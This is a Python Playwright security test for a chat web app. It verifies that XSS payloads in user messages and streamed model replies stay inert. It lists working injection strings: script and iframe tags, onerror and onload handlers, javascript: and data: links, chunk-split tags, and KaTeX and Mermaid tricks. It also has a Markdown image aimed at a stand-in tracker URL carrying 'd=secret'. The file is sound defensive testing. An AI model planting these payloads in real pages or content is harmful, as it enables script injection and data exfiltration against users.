"""Hostile text in a user's message and in a model's streamed reply runs nothing and loads nothing, in Chromium.

Checked while the reply streams, after it ends and after a reload: no write to `window.__xss` ever happens, no
element that could run script or load something ever appears inside a chat bubble (a MutationObserver watches from
the first byte), every link left in a bubble is http(s), the Markdown image pointing at a loopback "tracker" is
never requested, and every payload is shown to the reader as the text it is.
"""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest
from playwright.async_api import Locator, Page, expect

from chatui.conversations.rules import title_from_message
from testing.fakes.server import Script
from tests.browser.conftest import create_account_and_sign_in
from tests.security.conftest import Tracker, Watch

pytestmark = pytest.mark.browser

DATA_URL = "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg=="  # <script>window.__xss=1</script>

# Markdown source → what the reader must see. Each is its own paragraph.
PAYLOADS = {
    '<img src=x onerror="window.__xss=1">': '<img src=x onerror="window.__xss=1">',
    '<svg onload="window.__xss=1">': '<svg onload="window.__xss=1">',
    "<script>window.__xss=1</script>": "<script>window.__xss=1</script>",
    '<iframe src="javascript:window.__xss=1"></iframe>': '<iframe src="javascript:window.__xss=1"></iframe>',
    '<a href="javascript:window.__xss=1">raw link</a>': '<a href="javascript:window.__xss=1">raw link</a>',
    "<details open ontoggle=window.__xss=1>": "<details open ontoggle=window.__xss=1>",
    "[click](javascript:window.__xss=1)": "[click](javascript:window.__xss=1)",
    "[caps](JaVaScRiPt:window.__xss=1)": "[caps](JaVaScRiPt:window.__xss=1)",
    "[entity](&#106;avascript:window.__xss=1)": "[entity](javascript:window.__xss=1)",
    "<javascript:window.__xss=1>": "<javascript:window.__xss=1>",
    f"[d]({DATA_URL})": f"[d]({DATA_URL})",
    "```html\n<script>window.__xss=1</script>\n```": "<script>window.__xss=1</script>",
}
# The same tricks cut where a naive renderer of partial text would see a tag.
SPLIT_CHUNKS = [
    "<scr",
    "ipt>window.__xss=2</scr",
    "ipt>\n\n",
    "<img src=x on",
    'error="window.__xss=2">\n\n',
    "[split](java",
    "script:window.__xss=2)\n\n",
]
SPLIT_SHOWN = [
    "<script>window.__xss=2</script>",
    '<img src=x onerror="window.__xss=2">',
    "[split](javascript:window.__xss=2)",
]
FILLER = [f"tail{i} " for i in range(20)]  # keeps the reply streaming while the mid-stream checks run
SAFE_SCHEMES = {"http", "https", "mailto"}


def image_markdown(tracker: Tracker) -> str:
    return f"![x]({tracker.url}/track?d=secret)"


async def assert_inert(page: Page, watch: Watch, bubbles: Locator, shown: list[str], stage: str) -> None:
    """The reader sees the payloads as text; nothing ran, nothing dangerous is in a bubble, links are http(s)."""
    assert await page.evaluate("window.__xss") is None, stage
    assert watch.xss == [], f"{stage}: script ran: {watch.xss}"
    assert watch.dom == [], f"{stage}: dangerous elements appeared in a bubble: {watch.dom}"
    assert watch.csp == [], f"{stage}: something was attempted and blocked: {watch.csp}"
    found = await bubbles.evaluate_all(
        """bubbles => bubbles.flatMap(b => [...b.querySelectorAll(
             "script, iframe, object, embed, img, [onerror], [onload], .chat-markdown svg")].map(e => e.outerHTML))"""
    )
    assert found == [], f"{stage}: {found}"
    hrefs = await bubbles.evaluate_all("bs => bs.flatMap(b => [...b.querySelectorAll('a[href]')].map(a => a.href))")
    assert all(urlsplit(href).scheme in SAFE_SCHEMES for href in hrefs), f"{stage}: {hrefs}"
    for text in shown:
        await expect(bubbles.filter(has_text=text).first, f"{stage}: {text!r} shown as text").to_be_visible()


async def test_hostile_markdown_in_messages_and_streamed_replies_stays_inert(
    page: Page, live_app, fake_ollama, tracker: Tracker
) -> None:
    watch = await Watch.start(page)
    image = image_markdown(tracker)
    reply_tokens = [f"{source}\n\n" for source in PAYLOADS] + [f"{image}\n\n", *SPLIT_CHUNKS, *FILLER]
    fake_ollama.then(Script(tokens=reply_tokens, delay=0.15))
    await create_account_and_sign_in(page, live_app, "xss-target")

    message = page.get_by_label("Message")
    sent = "\n\n".join([*PAYLOADS, image])
    await message.fill(sent)
    await message.press("Enter")
    user = page.locator(".user-bubble")
    assistant = page.locator(".assistant-bubble")
    bubbles = page.locator(".q-message")
    shown = [*PAYLOADS.values(), "[image: x]"]

    await expect(user).to_be_visible()
    await assert_inert(page, watch, user, shown, "user message")

    # while streaming: every payload (the split ones included) is on screen and the reply is still coming
    await expect(assistant).to_contain_text(SPLIT_SHOWN[-1], timeout=15_000)
    await assert_inert(page, watch, assistant, [*shown, *SPLIT_SHOWN], "streaming")
    await expect(page.get_by_role("button", name="Stop"), "checked while the reply was streaming").to_be_visible()

    # after the reply ended
    await expect(assistant).to_contain_text(FILLER[-1].strip(), timeout=15_000)
    await expect(page.get_by_role("button", name="Send")).to_be_visible()
    await assert_inert(page, watch, bubbles, [*shown, *SPLIT_SHOWN], "done")

    # after a reload, from the database (the conversation's title came from the hostile message, too)
    await page.reload()
    await expect(assistant).to_contain_text(FILLER[-1].strip())
    await assert_inert(page, watch, bubbles, [*shown, *SPLIT_SHOWN], "reloaded")
    title = title_from_message(sent)
    assert title.startswith("<img src=x onerror=")
    await expect(page).to_have_title(f"{title} · chatui")
    await expect(page.locator(".q-drawer").get_by_text(title)).to_be_visible()

    # the Markdown image is a plain link to the tracker, never fetched
    links = page.locator(".q-message a", has_text="[image: x]")
    await expect(links).to_have_count(2)  # in the user's message and in the reply
    assert await links.first.get_attribute("href") == f"{tracker.url}/track?d=secret"
    assert tracker.hits == []
    assert [url for url in watch.requests if url.startswith(tracker.url)] == []
    assert watch.errors == []


# Math and diagrams: TeX commands that would link or add attributes (KaTeX refuses them with `trust` off), HTML in a
# formula, and a Mermaid diagram with an HTML label, a click handler and a directive that asks for a looser security
# level. All of it is typeset or drawn, and none of it runs.
MATH_PAYLOADS = [
    "$\\href{javascript:window.__xss=3}{click}$",
    "\\(\\url{javascript:window.__xss=3}\\)",
    "$$\\htmlData{onerror=window.__xss=3}{x}$$",
    '\\[\\includegraphics{x" onerror="window.__xss=3}\\]',
    "$<img src=x onerror=window.__xss=3>$",
]
DIAGRAM = """```mermaid
%%{init: {"securityLevel": "loose"}}%%
graph TD
  A["<img src=x onerror=window.__xss=3>"] --> B["<script>window.__xss=3</script>"]
  click A call window.eval("window.__xss=3")
  click B "javascript:window.__xss=3"
```"""


async def test_math_and_diagram_payloads_are_drawn_and_run_nothing(page: Page, live_app, fake_ollama) -> None:
    watch = await Watch.start(page)
    fake_ollama.then(Script(tokens=[f"{source}\n\n" for source in [*MATH_PAYLOADS, DIAGRAM]] + FILLER, delay=0.05))
    await create_account_and_sign_in(page, live_app, "xss-math")
    message = page.get_by_label("Message")
    await message.fill("\n\n".join(MATH_PAYLOADS))
    await message.press("Enter")
    assistant = page.locator(".assistant-bubble")
    await expect(page.locator(".user-bubble .chatui-math[data-typeset]")).to_have_count(len(MATH_PAYLOADS))
    await expect(assistant).to_contain_text(FILLER[-1].strip(), timeout=15_000)
    await expect(assistant.locator("img.chatui-diagram")).to_have_count(1, timeout=15_000)
    await expect(assistant.locator(".chatui-math[data-typeset]")).to_have_count(len(MATH_PAYLOADS))
    image = assistant.locator("img.chatui-diagram")
    assert await image.evaluate("img => img.complete && img.naturalWidth > 0")
    await image.click()  # a drawing is a picture: its click handlers are gone with its script

    for stage in ("done", "reloaded"):
        if stage == "reloaded":
            await page.reload()
            await expect(page.locator(".assistant-bubble img.chatui-diagram")).to_have_count(1, timeout=10_000)
        assert await page.evaluate("window.__xss") is None, stage
        assert watch.xss == [], f"{stage}: script ran: {watch.xss}"
        assert watch.dom == [], f"{stage}: dangerous elements appeared in a bubble: {watch.dom}"
        assert watch.csp == [], f"{stage}: something was attempted and blocked: {watch.csp}"
        hrefs = await page.locator(".q-message a[href]").evaluate_all("links => links.map(a => a.href)")
        assert all(urlsplit(href).scheme in SAFE_SCHEMES for href in hrefs), f"{stage}: {hrefs}"
    assert watch.errors == []
